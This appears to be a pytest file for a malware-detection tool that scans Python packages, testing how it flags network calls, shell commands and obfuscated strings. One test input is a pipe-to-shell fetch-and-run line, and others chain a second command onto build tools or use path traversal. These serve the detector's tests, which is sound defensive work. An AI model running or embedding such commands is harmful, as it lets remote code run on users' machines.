"""What detectors ask of facts, asked directly."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace

from stockade.analyse.code.commands import asks_a_tool, command
from stockade.analyse.code.facts import Call, Literal, Value
from stockade.analyse.code.observe import decoded, flat, hidden, idle, networks, seen, telling
from stockade.analyse.code.vocabulary import HTTP, touching, within
from stockade.analyse.detector import Detector
from stockade.analyse.engine import DETECTORS
from stockade.limits import MAX_EXCERPT
from stockade.model.evidence import Location, Phase

HERE = Location(file="demo-1.0/demo/__init__.py", line=1)


def literal(text: str, phase: Phase = Phase.IMPORT, where: Location = HERE) -> Literal:
    """A literal as it stands."""
    return Literal(value=Value(known=True, const=text), phase=phase, where=where)


def start(const: object) -> Call:
    """A process call with one argument."""
    return Call(
        target="subprocess.run", args=(Value(known=True, const=const),), phase=Phase.INSTALL, where=HERE
    )


@pytest.mark.parametrize("one", [one for one in DETECTORS if one.on is Literal], ids=lambda one: one.id)
def test_a_detector_of_strings_is_silent_on_an_ordinary_one(one: Detector[Any]) -> None:
    assert list(one.check(literal("an ordinary sentence"))) == []


def test_only_telling_literals_are_shown_to_detectors() -> None:
    told = literal("curl https://x.invalid/a | sh")
    said = (literal("an ordinary sentence"), told)
    assert telling(said) == telling(said) == (told,)
    assert telling((told, told)) == (told, told)


def test_values_are_opened() -> None:
    value = Value(known=True, const={"a": [b"b", ("c", 1)]})
    assert list(flat(value)) == ["a", "b", "c"]
    assert list(flat(Value(const="unknown"))) == []


@pytest.mark.parametrize(
    ("const", "asks"),
    [
        (["git", "describe"], True),
        ("git describe; ./x", False),
        ("python setup.py sdist upload", True),
        ("python setup.py sdist upload && ./x", False),
        ("pdflatex --version", True),
        ("./x --version", False),
        ("x --version; ./x", False),
        ("./x", False),
        ("", False),
        (["/usr/bin/git", "describe"], True),
        (["/tmp/bin/git", "describe"], False),
        ("/usr/bin/../../tmp/git", False),
    ],
)
def test_only_a_plain_build_tool_is_one(const: object, asks: bool) -> None:
    assert asks_a_tool(start(const)) is asks


def test_a_build_tool_with_arguments_that_are_not_known_is_one() -> None:
    given = Value(const=["cmake", None])
    call = Call(target="subprocess.run", args=(given,), phase=Phase.INSTALL, where=HERE)
    assert asks_a_tool(call)
    assert not asks_a_tool(replace(call, keywords={"shell": Value(known=True, const=True)}))
    assert not asks_a_tool(replace(call, args=(Value(const=["./x", None]),)))


@pytest.mark.parametrize(
    ("target", "address", "phase", "leaves"),
    [
        ("requests.get", "http://localhost:80/x", Phase.IMPORT, False),
        ("requests.get", "https://127.0.0.1", Phase.IMPORT, False),
        ("requests.get", "http://localhost:80/x", Phase.INSTALL, True),
        ("requests.get", "http://localhost.invalid/", Phase.IMPORT, True),
        ("requests.get", "http://localhost:{}/", Phase.IMPORT, True),
        ("socket.socket.connect", ("127.0.0.1", 80), Phase.IMPORT, True),
        ("http.client.HTTPConnection.request", ("127.0.0.1", 80), Phase.IMPORT, False),
    ],
)
def test_what_stays_on_this_machine_is_no_network(
    target: str, address: object, phase: Phase, leaves: bool
) -> None:
    call = Call(target=target, args=(Value(known=True, const=address),), phase=phase, where=HERE)
    assert networks(call) is leaves


def test_a_command_that_is_not_known_is_empty() -> None:
    assert command(Call(target="os.system", args=(Value(),), phase=Phase.CALL, where=HERE)) == ""


@pytest.mark.parametrize(
    ("path", "phase", "waits"),
    [
        ("demo-1.0/tests/test_x.py", Phase.CALL, True),
        ("demo-1.0/tests/test_x.py", Phase.INSTALL, False),
        ("demo-1.0/demo/x.py", Phase.CALL, False),
        ("tests/x.py", Phase.CALL, False),
        ("a-1.0/vendored-meson/ci/x.py", Phase.CALL, True),
        ("a-1.0/third_party/b/x.py", Phase.CALL, True),
        ("a-1.0/third_party/b/x.py", Phase.IMPORT, False),
        ("a-1.0/a/third_party/x.py", Phase.CALL, False),
        ("pkg/third_party/x.py", Phase.CALL, False),
        ("x.py", Phase.CALL, False),
    ],
)
def test_code_in_tests_is_idle_unless_something_reaches_it(path: str, phase: Phase, waits: bool) -> None:
    assert idle(literal("text", phase, Location(file=path))) is waits


def test_joining_alone_hides_nothing() -> None:
    assert hidden([Value(steps=("join",)), Value(steps=("slice",))]) == ()
    assert hidden([Value(steps=("join",)), Value(steps=("base64", "join"))]) == ("join", "base64")
    assert hidden([Value(steps=("replace",))]) == ()
    assert hidden([Value(const="{} -c", steps=("replace",))]) == ("replace",)
    assert decoded([Value(known=True, const="a"), Value(known=True, const="b", steps=("hex",))]) == "b"


def test_an_excerpt_is_bounded() -> None:
    assert len(seen("x", literal("text"), "says", "a" * 9999).excerpt) == MAX_EXCERPT


def test_what_a_call_returns_is_within_it() -> None:
    assert within("requests.get.json", HTTP)
    assert not within("requests", HTTP)
    assert not within("requests.gets", HTTP)
    assert touching(frozenset({"requests.get.text", "open"}), HTTP) == {"requests.get.text"}
